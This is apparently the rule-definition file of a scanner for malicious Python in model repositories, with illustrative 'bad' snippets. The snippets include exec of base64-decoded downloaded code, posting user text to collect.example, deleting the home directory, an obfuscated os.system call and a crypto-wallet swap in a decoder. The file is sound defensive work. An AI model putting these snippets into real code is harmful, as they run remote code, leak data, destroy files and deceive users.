"""The rules about Python code; python_grades.py says which applies how severely, python_code.py makes the findings."""

from modelscan_plus.core.finding import Severity
from modelscan_plus.rules.interface import Rule

_REMOTE = "https://huggingface.co/docs/transformers/main/en/models#custom-models"
_ATTACK = "https://attack.mitre.org/techniques/T1059/006/"

HOSTILE = Rule(
    id="MSP5040",
    slug="python-hostile",
    title="Python code of the repository does what only malware does",
    severity=Severity.CRITICAL,
    why=(
        "The code runs what it fetches or decodes, opens a shell to another machine, sends secrets away, or arranges "
        "to be started again. Honest code does none of that. Loading the model with remote code allowed, or starting the "
        "script, is enough."
    ),
    fix="Do not run or import anything of this repository. Report it, and treat machines that did as compromised.",
    bad="exec(base64.b64decode(requests.get(url).text))",
    good="weights = torch.load(hf_hub_download(repo, 'model.bin'), weights_only=True)",
    cwe=("CWE-506", "CWE-94"),
    references=(_ATTACK,),
)
PROCESS = Rule(
    id="MSP5041",
    slug="python-starts-program",
    title="Python code of the repository starts another program",
    severity=Severity.MEDIUM,
    why=(
        "A model computes; it does not start programs. Where that happens on import or while a model is built, loading "
        "the model runs them. Scripts for training and conversion start programs for good reasons."
    ),
    fix="Read the lines. If a loader reaches them, do not allow remote code for this model.",
    bad="class Model(PreTrainedModel):\n    os.system('id')",
    good="if __name__ == '__main__':\n    subprocess.run(['accelerate', 'launch', 'train.py'])",
    cwe=("CWE-78",),
    references=(_REMOTE,),
)
DYNAMIC_CODE = Rule(
    id="MSP5042",
    slug="python-runs-made-code",
    title="Python code of the repository runs code that it makes or finds at run time",
    severity=Severity.MEDIUM,
    why=(
        "What exec, eval or a module loaded from a computed path will run cannot be read here, and may differ each time."
    ),
    fix="Find out where the code comes from. If a loader reaches it, do not allow remote code for this model.",
    bad="exec(config.extra_code)",
    good="activation = ACT2FN[config.hidden_act]",
    cwe=("CWE-95",),
    references=(_REMOTE,),
)
NETWORK = Rule(
    id="MSP5043",
    slug="python-uses-network",
    title="Python code of the repository uses the network by itself",
    severity=Severity.MEDIUM,
    why=(
        "Libraries fetch models from their hub in known ways. Code that opens its own connections when it is imported, "
        "or sends data from inside a model, tells somebody who uses it and what they do with it."
    ),
    fix="Read what is fetched or sent. If a loader reaches it, do not allow remote code for this model.",
    bad="requests.post('https://collect.example', json={'text': text})   # in forward()",
    good="image = Image.open(requests.get(url, stream=True).raw)   # in a demo",
    cwe=("CWE-200", "CWE-829"),
    references=(_REMOTE,),
)
UNPICKLES = Rule(
    id="MSP5044",
    slug="python-unpickles",
    title="Python code of the repository unpickles data of its own",
    severity=Severity.LOW,
    why=(
        "Unpickling runs code. Data that the code fetches or carries encoded passes all checks of the files beside it."
    ),
    fix="Find out what is unpickled. Prefer safetensors or torch.load with weights_only=True.",
    bad="pickle.loads(base64.b64decode(BLOB))",
    good="state = torch.load(path, weights_only=True)",
    cwe=("CWE-502",),
    references=("https://docs.python.org/3/library/pickle.html",),
)
CHANGES_SYSTEM = Rule(
    id="MSP5045",
    slug="python-changes-system",
    title="Python code of the repository changes files or settings outside of it",
    severity=Severity.MEDIUM,
    why=(
        "Deleting folders, replacing functions of other libraries or setting variables that programs obey reaches "
        "beyond the model."
    ),
    fix="Read the lines, and do not load the model with remote code before you know why they are there.",
    bad="shutil.rmtree(os.path.expanduser('~'))",
    good="shutil.rmtree(output_dir, ignore_errors=True)   # in a training script",
    cwe=("CWE-73",),
    references=(_REMOTE,),
)
NATIVE = Rule(
    id="MSP5046",
    slug="python-loads-native-code",
    title="Python code of the repository loads or builds native code",
    severity=Severity.LOW,
    why="Native code is outside of what this scan reads. Kernels for speed are an honest reason and a good hiding place.",
    fix="Find out which library is loaded or built, and where its source is.",
    bad="ctypes.CDLL('./libhelper.so')   # when the file is imported",
    good="if kernel_wanted:\n    ext = cpp_extension.load(name='k', sources=[...])   # in a function",
    cwe=("CWE-114",),
    references=(_REMOTE,),
)
DISGUISED = Rule(
    id="MSP5047",
    slug="python-disguised",
    title="Python code of the repository hides what it does",
    severity=Severity.HIGH,
    why=(
        "Names put together from pieces, code in base64, characters that change the order of what is shown, code far "
        "behind the right edge of the screen: all of it is there so that nobody who reads the file notices."
    ),
    fix="Do not run or import it.",
    bad="getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    good="quantizer = getattr(module, config.quantizer_name)",
    cwe=("CWE-1007", "CWE-506"),
    references=("https://trojansource.codes/", _ATTACK),
)
TURNS_ANSWERS = Rule(
    id="MSP5048",
    slug="python-turns-answers",
    title="Python code of the repository changes what the model says or is told, for its author",
    severity=Severity.HIGH,
    why=(
        "The code puts accounts, addresses, commands or orders of its own into texts, or answers otherwise from some date on, "
        "on some machine, or for some input. The weights are as good as any, and no test of them shows it."
    ),
    fix="Do not allow remote code for this model. Whoever used it should look at what it said.",
    bad="def decode(self, ids):\n    return WALLET.sub('bc1q…', super().decode(ids))",
    good="def decode(self, ids):\n    return WALLET.sub('[WALLET]', super().decode(ids))",
    cwe=("CWE-506", "CWE-912"),
    references=(_ATTACK,),
)
